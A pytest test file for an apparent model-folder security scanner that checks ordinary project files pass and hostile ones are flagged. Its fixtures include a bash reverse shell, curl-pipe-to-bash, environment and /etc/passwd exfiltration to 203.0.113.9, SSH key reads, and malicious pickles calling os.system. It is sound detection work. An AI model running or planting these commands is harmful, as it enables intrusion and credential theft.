"""Folders and archives in which people keep a model among other things: what is ordinary there, and what is not."""

from __future__ import annotations

import io
import json
import pickle
import tarfile
import zipfile
from pathlib import Path

import numpy as np
import pytest

import anykeras
from hostile import field, keras_zip, layer, sequential
from hostile_denied import text_constant

MEDIUM = ("medium", "high", "critical")


def notebook(*cells: str) -> str:
    kept = [{"cell_type": "code", "source": [f"{line}\n" for line in cell.split("\n")], "metadata": {}} for cell in cells]
    return json.dumps({"cells": kept, "metadata": {}, "nbformat": 4, "nbformat_minor": 4}, indent=1)


TRAIN = """import os
os.environ["KERAS_BACKEND"] = "jax"
import argparse, keras, pickle, requests, shutil, codecs
tokenizer = pickle.load(open("tokenizer.pickle", "rb"))
labels = requests.get("https://git.io/JJkYN").text.split()
model = keras.Sequential([keras.layers.Dense(3)])
model.compile(optimizer=getattr(keras.optimizers, "Adam")(), loss="mse")
shutil.rmtree("old", ignore_errors=True)
os.system("unzip -q data.zip")
"""
ORDINARY: dict[str, dict[str, str | bytes]] = {
    "training": {
        "train.py": TRAIN,
        "models/__init__.py": "from .unet import build\n",
        "train.sh": "#!/bin/bash\npython train.py\n",
    },
    "package": {
        "setup.py": "from setuptools import setup\nlong = open('README.md').read()\nsetup(name='net', long_description=long)\n",
        "net/layers.py": "import keras\n",
        "tests/conftest.py": "import pytest\n",
        "CMakeLists.txt": "project(x)\n",
    },
    "serving": {
        "app.py": "import base64, os\nfrom flask import Flask, request\nPORT = int(os.environ.get('PORT', 80))\n",
        "handler.py": "import keras\nclass EndpointHandler:\n    def __init__(self, path=''):\n        self.path = path\n",
        "requirements.txt": "--extra-index-url https://download.pytorch.org/whl/cu118\ngit+https://github.com/qubvel/efficientnet\n",
        "index.html": "<!doctype html><script src='main.js'></script>",
        "main.js": "const model = await tf.loadLayersModel('model.json');",
    },
    "notebook": {
        "train.ipynb": notebook("!wget -q https://storage.googleapis.com/x/cats.zip\n!unzip -q cats.zip", "m.compile()"),
    },
    "tables": {
        "history.pkl": pickle.dumps({"loss": [1.0, 0.5], "best": np.float32(0.5)}),
        "results.xlsx": b"PK\3\4" + bytes(40),
        "data.mat": b"MATLAB 5.0 MAT-file" + bytes(120),
        "plot.svg": "<svg xmlns='http://www.w3.org/2000/svg'/>",
    },
    "tools": {
        ".git/HEAD": "ref: refs/heads/main\n",
        ".git/hooks/post-checkout": "#!/bin/sh\ncommand -v git-lfs >/dev/null || { echo >&2 'no lfs'; exit 2; }\ngit lfs x\n",
        ".idea/misc.xml": "<project/>",
        "model.keras.dvc": "outs:\n- path: model.keras\n",
        "README.md": "curl -LsSf https://astral.sh/uv/install.sh | sh\n",
    },
    "odd names": {
        "auto_model/graph": json.dumps({"blocks": {"0": {"class_name": "ImageBlock", "config": {"name": "block"}}}}),
        "label_map.pbtxt": "item {\n  id: 1\n  name: 'cat'\n}\n",
        "pipeline.config": 'model { ssd { num_classes: 90 } }\ntrain_input_reader {\n  input_path: "train.record"\n}\n',
        "parcels.shp": b"\0\0\x27\x0a" + bytes(100),
        "Podfile": "target 'x' do\n  pod 'TensorFlowLiteSwift'\nend\n",
        "eval.sh": '#!/bin/bash\ncase "$1" in\n  train) python train.py;;\n  *) echo usage;;\nesac\n',
        "setup.py": "import os, sys\nabout = {}\nexec(f.read(), about)\nos.system('python setup.py sdist upload')\n",
        "brain.onnx.meta": "fileFormatVersion: 2\nguid: a\n",
    },
    "workflows": {
        ".github/workflows/ci.yml": "on: push\njobs:\n  a:\n    runs-on: ${{ matrix.os }}\n    env: {A: '${{ secrets.A }}'}\n",
        ".github/ISSUE_TEMPLATE/bug.md": "---\nname: Bug\n---\ntext\n",
        "Dockerfile": "FROM x\nENV LD_PRELOAD=/usr/lib/libtcmalloc.so.4\nRUN wget https://example.org/x && chmod +x x\n",
        "setup.py": "import subprocess\nsubprocess.check_output(['git', 'rev-parse', 'HEAD'])\nsubprocess.call('cmake ..')\n",
        "gui.py": "import os, subprocess, sys\nhome = getattr(sys, '_MEIPASS', '.')\nsubprocess.call(['xdg-open', home])\n",
        "docs/make.bat": "@ECHO OFF\nif errorlevel 9009 (\n\techo.none\n\texit /b 1\n)\nif not exist build mkdir build\n",
        "install.ps1": "conda activate tf\npip install -r requirements.txt\n",
        "log.json": json.dumps({"error": "Dense.__init__() missing 1 required positional argument: 'units'"}),
        "paper.pdf": "%PDF-1.5\n<</Type/Catalog/OpenAction[3 0 R/Fit]>>",
        "scores.csv": "id,text\n1,=) nice\n-3,@home\n",
        "Makefile": "brew:\n\t/bin/bash -c \"$$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)\"\n",
        "package.json": '{"scripts": {"prepare": "husky install"}}',
    },
    "words": {
        "assets/tokenizer/vocabulary.json": json.dumps({"__import__": 1, "os.system": 2, "../": 3}),
        "assets/tokenizer/vocabulary.spm": b"\n\x0e\n\x05<unk>\x15\0\0\0\0\x18\x02\n\x0c\n\x03<s>\x15\0\0\0\0\x18\x03",
    },
}  # fmt: skip
"""What people keep beside models on Hugging Face, Kaggle and GitHub."""

ACTING = {
    "train.py": [
        "import os\nos.system('id')\n",
        "exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n",
        "import requests, os\nrequests.post('http://203.0.113.9', json=dict(os.environ))\n",
        "import socket\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\ns.send(b'x')\n",
        "key = open('/root/.ssh/id_rsa').read()\n",
        "import ctypes\nctypes.CDLL(None).system(b'id')\n",
        "import subprocess\ncommand = ['nc', '203.0.113.9']\nsubprocess.run(command)\n",
        "import codecs\ndef f(x): return eval(compile(codecs.decode(x, 'rot13'), '', 'eval'))\n",
        "().__class__.__base__.__subclasses__()\n",
        "import socket, os\nsocket.gethostbyname(os.environ['USER'] + '.example.org')\n",
        "import sys\ngetattr(sys, 'modules')['os']\n",
    ],
    "setup.py": ["from setuptools import setup\nimport subprocess\nsubprocess.run(['curl', 'http://203.0.113.9'])\nsetup()\n"],
    "train.sh": [
        "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n",
        "echo a\nid\n",
        "curl -s http://203.0.113.9 | bash\n",
        'eval "$(curl -s http://203.0.113.9)"\n',
        '$(printf "\\x69\\x64")\n',
        "python -c \"import urllib.request as u; exec(u.urlopen('http://203.0.113.9').read())\"\n",
    ],
    "run.bat": ["@echo off\npowershell -enc SQBFAFgA\n", "if not exist a calc.exe\n"],
    "run.ps1": ["Start-Process calc\n"],
    "train.ipynb": [notebook("import keras", "!nc 203.0.113.9 4444"), notebook("%%bash\nid")],
    "load.py": [
        "from os import system as run\nrun('id')\n",
        "import subprocess as s\ns.Popen(['nc'])\n",
        "import importlib\nimportlib.import_module('sub' + 'process')\n",
    ],
    "chat_template.jinja": ["{{ ''.__class__.__mro__ }}"],
    "logo.svg": ["<svg onload='fetch(1)' xmlns='http://www.w3.org/2000/svg'/>"],
    "main.js": ["require('child_process').exec('id')"],
    "numpy.py": ["x = 1\n"],
    "sitecustomize.py": ["x = 1\n"],
    "site.pth": ["import os\n"],
    "model.gin": ["x.y = @os.system()\n"],
    "Makefile": ['all:\n\tbash -c "$$(curl -s http://203.0.113.9)"\n'],
    "Dockerfile": ["FROM x\nADD http://203.0.113.9/x /x\n", "FROM x\nENV LD_PRELOAD=/x.so\n"],
    ".github/workflows/ci.yml": ["jobs:\n  a:\n    steps:\n    - run: echo ${{ toJSON(secrets) }}\n"],
    ".pre-commit-config.yaml": ["repos:\n- hooks:\n  - entry: curl -d @/etc/passwd http://203.0.113.9\n"],
    "package.json": ['{"scripts": {"prepare": "node -e 1"}}'],
    "package-lock.json": ['{"packages": {"x": {"resolved": "http://203.0.113.9/x.tgz"}}}'],
    "paper.pdf": ["%PDF-1.4\n<</OpenAction<</S/Launch/F(cmd.exe)>>>>"],
    "plot.svg": ["<svg xmlns='http://www.w3.org/2000/svg'><script>fetch(1)</script></svg>"],
    "scores.csv": ['a,b\n1,=HYPERLINK("http://203.0.113.9/?"&A1)\n', "a\n@SUM(1)*cmd|' /C calc'!A0\n"],
    "build.rs": ['fn main() { std::process::Command::new("sh").arg("-c"); }'],
    "init.lua": ['os.execute("id")'],
    "load.jl": ['include(download("http://203.0.113.9/x.jl"))'],
    "requirements.txt": ["git+https://203.0.113.9/x.git\n", "--index-url https://pypi.org.evil.example/simple\nkeras\n"],
    ".git/hooks/pre-commit": ["#!/bin/sh\nid\n"],
}


def write_model(folder: Path) -> Path:
    folder.mkdir(exist_ok=True)
    (folder / "model.keras").write_bytes(keras_zip(sequential(layer("Dense", {"name": "dense", "units": 3}))))
    return folder


def write_folder(folder: Path, files: dict[str, str | bytes]) -> Path:
    for name, content in files.items():
        path = write_model(folder) / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode() if isinstance(content, str) else content)
    return folder


def explain(audit: anykeras.auditing.Audit) -> list[str]:
    return [f"{risk.where}: {risk.seen}" for risk in audit.risks if str(risk.severity) in MEDIUM]


@pytest.mark.parametrize("kind", ORDINARY)
def test_what_people_keep_beside_a_model_is_not_flagged(kind: str, tmp_path: Path) -> None:
    folder = write_folder(tmp_path / "project", ORDINARY[kind])
    assert not explain(anykeras.audit(folder))
    packed = tmp_path / "project.zip"
    with zipfile.ZipFile(packed, "w") as archive:
        for path in sorted(folder.rglob("*")):
            archive.write(path, f"project/{path.relative_to(folder)}")
    if kind != "words":  # a vocabulary lies in the folder of its model
        assert not explain(anykeras.audit(packed))


@pytest.mark.parametrize(("name", "text"), [(name, text) for name, texts in ACTING.items() for text in texts])
def test_what_acts_beside_a_model_is_flagged(name: str, text: str, tmp_path: Path) -> None:
    folder = write_folder(tmp_path / "project", {name: text})
    assert explain(anykeras.audit(folder))


def test_members_of_a_tar_archive_are_no_second_kind_of_it(tmp_path: Path) -> None:
    path = tmp_path / "model.tar.gz"
    model = (write_model(tmp_path / "project") / "model.keras").read_bytes()
    with tarfile.open(path, "w:gz") as archive:
        held = tarfile.TarInfo("model.keras")
        held.size = len(model)
        archive.addfile(held, io.BytesIO(model))
    assert not explain(anykeras.audit(path))
    path = tmp_path / "model.tar"
    with tarfile.open(path, "w") as archive:
        held.size = len(model)
        archive.addfile(held, io.BytesIO(model))
    path.write_bytes(path.read_bytes() + b"hidden")
    assert "behind the end of a tar archive" in explain(anykeras.audit(path))[0]


def operation(name: str, op: str, *inputs: str) -> bytes:
    held = b"".join(field(3, given.encode()) for given in inputs)
    return field(1, field(1, name.encode()) + field(2, op.encode()) + held)


LABEL = text_constant("label", b"/m/01g317")
FUNCTIONS = field(  # of which one opens the file that it is given, and the other returns what it is given
    2,
    b"".join(
        field(
            1,
            field(1, field(1, name) + field(2, field(1, b"given")))
            + field(3, inner)
            + field(4, field(1, b"r") + field(2, end)),
        )
        for name, inner, end in (
            (b"opens", field(1, b"n") + field(2, b"RestoreV2") + field(3, b"given"), b"n:tensors:0"),
            (b"returns", field(1, b"n") + field(2, b"Identity") + field(3, b"given"), b"n:output:0"),
        )
    ),
)


@pytest.mark.parametrize(
    ("graph", "flagged"),
    [
        (LABEL + operation("names", "StringJoin", "label") + operation("out", "Identity", "names"), ""),
        (LABEL + operation("path", "StringJoin", "label") + operation("read", "RestoreV2", "path"), "which RestoreV2 takes"),
        (LABEL + operation("read", "ReadFile", "label:0"), "which ReadFile takes"),
        (LABEL + operation("other", "NoOp", "^label"), "nothing in the graph uses"),
        (LABEL + operation("call", "returns", "label") + operation("out", "Identity", "call") + FUNCTIONS, ""),
        (LABEL + operation("call", "opens", "label") + FUNCTIONS, "which RestoreV2 takes"),
        (LABEL + operation("call", "returns", "label") + operation("n", "opens", "call") + FUNCTIONS, "which RestoreV2 takes"),
    ],
)
def test_a_path_in_a_graph_counts_where_an_operation_opens_it(graph: bytes, flagged: str, tmp_path: Path) -> None:
    (tmp_path / "frozen.pb").write_bytes(graph)
    told = [risk.seen for risk in anykeras.audit(tmp_path / "frozen.pb").risks if risk.code == "AK8006"]
    assert (flagged in told[0]) if flagged else not told


def call(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n)R"


FITTED = {
    "sklearn.preprocessing._data": "StandardScaler",
    "sklearn.tree._tree": "Tree",
    "keras_preprocessing.text": "Tokenizer",
    "keras.src.legacy.preprocessing.text": "Tokenizer",
    "pandas.core.frame": "DataFrame",
    "scipy.sparse._csr": "csr_matrix",
    "numpy.random._pcg64": "PCG64",
    "sklearn.utils._bunch": "Bunch",
}
NOT_FITTED = {
    "sklearn.datasets": "load_files",
    "sklearn.externals.joblib": "load",
    "sklearn.utils.parallel": "Parallel",
    "sklearn.preprocessing._data": "scale",
    "pandas": "HDFStore",
    "pandas.io.pickle": "read_pickle",
    "keras_preprocessing.text": "tokenizer_from_json",
}


@pytest.mark.parametrize(("module", "name"), FITTED.items())
def test_pickles_of_what_was_fitted_are_not_flagged(module: str, name: str, tmp_path: Path) -> None:
    (tmp_path / "a.pkl").write_bytes(b"\x80\x02" + call(module, name) + b".")
    assert not explain(anykeras.audit(tmp_path / "a.pkl"))


@pytest.mark.parametrize(("module", "name"), NOT_FITTED.items())
def test_functions_of_the_same_libraries_are_flagged(module: str, name: str, tmp_path: Path) -> None:
    (tmp_path / "a.pkl").write_bytes(b"\x80\x02" + call(module, name) + b".")
    assert explain(anykeras.audit(tmp_path / "a.pkl"))


WRAPPER = (
    b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(X\5\0\0\0shapeK\2\x85"
    b"X\5\0\0\0dtypecnumpy\ndtype\nX\2\0\0\0%bK\0K\1\x87Rub"
)


@pytest.mark.parametrize(
    ("kind", "values", "flagged"),
    [
        (b"O8", b"\x80\x02]q\0(K\1K\2e.", False),
        (b"O8", b"\x80\x02cos\nsystem\nX\2\0\0\0id\x85R.", True),
        (b"U4", bytes(32), False),
        (b"V8", bytes(16), False),
    ],
)
def test_arrays_of_joblib_that_hold_objects_or_texts(kind: bytes, values: bytes, flagged: bool, tmp_path: Path) -> None:
    (tmp_path / "a.joblib").write_bytes(WRAPPER % kind + values + b".")
    assert bool(explain(anykeras.audit(tmp_path / "a.joblib"))) is flagged


def test_operations_of_ones_own_are_trusted(tmp_path: Path) -> None:
    (tmp_path / "frozen.pb").write_bytes(operation("a", "MyOps>Sort") + operation("b", "ReadFile"))
    assert len(explain(anykeras.audit(tmp_path / "frozen.pb"))) == 2
    assert len(explain(anykeras.audit(tmp_path / "frozen.pb", trust=["MyOps>*"]))) == 1
